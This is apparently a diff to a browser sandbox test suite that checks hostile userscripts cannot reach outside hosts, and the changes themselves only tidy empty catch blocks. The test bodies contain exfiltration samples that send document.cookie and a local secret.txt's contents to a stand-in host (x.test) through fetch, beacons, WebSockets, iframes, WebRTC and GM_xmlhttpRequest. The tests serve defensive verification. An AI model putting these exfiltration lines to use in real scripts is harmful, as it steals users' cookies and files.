@@ -49,9 +49,9 @@ describe("a hostile script reaches nothing outside", () => {
 				for (const scheme of ['http', 'https']) {
 					const to = scheme + '://' + host + '/?' + document.cookie;
 					fetch(to, { mode: 'no-cors' }).catch(() => 0); new Image().src = to; navigator.sendBeacon(to, 'x');
-					try { new WebSocket(to.replace('http', 'ws')) } catch {}
-					try { new EventSource(to) } catch {}
-					try { new WebTransport(to) } catch {}
+					try { new WebSocket(to.replace('http', 'ws')) } catch { void 0 }
+					try { new EventSource(to) } catch { void 0 }
+					try { new WebTransport(to) } catch { void 0 }
 					for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'modulepreload', 'stylesheet']) document.head.append(Object.assign(document.createElement('link'), { rel, href: to }));
 					document.body.append(Object.assign(document.createElement('iframe'), { src: to }));
 				}
@@ -73,7 +73,7 @@ describe("a hostile script reaches nothing outside", () => {
 			const frame = document.body.appendChild(document.createElement('iframe'));
 			const popup = window.open('about:blank');
 			for (const world of [window, frame.contentWindow, popup]) {
-				try { const peer = new world.RTCPeerConnection(${server}); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } catch {}
+				try { const peer = new world.RTCPeerConnection(${server}); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } catch { void 0 }
 			}`;
 		await runSample(browser, body);
 		expect(heard).toEqual([]);
@@ -83,7 +83,7 @@ describe("a hostile script reaches nothing outside", () => {
 		const file = `file://${folder}/secret.txt`;
 		const body = `
 			fetch(${JSON.stringify(file)}).then((r) => r.text()).then((t) => fetch('https://x.test/' + t)).catch(() => 0);
-			const x = new XMLHttpRequest(); x.open('GET', ${JSON.stringify(file)}); x.onload = () => fetch('https://x.test/' + x.responseText); try { x.send() } catch {}
+			const x = new XMLHttpRequest(); x.open('GET', ${JSON.stringify(file)}); x.onload = () => fetch('https://x.test/' + x.responseText); try { x.send() } catch { void 0 }
 			GM_xmlhttpRequest({ url: ${JSON.stringify(file)}, onload: (r) => fetch('https://x.test/' + r.responseText) });
 			document.body.append(Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(file)} }));`;
 		const report = await runSample(browser, body, ["@match *://*/*", "@grant GM_xmlhttpRequest"]);
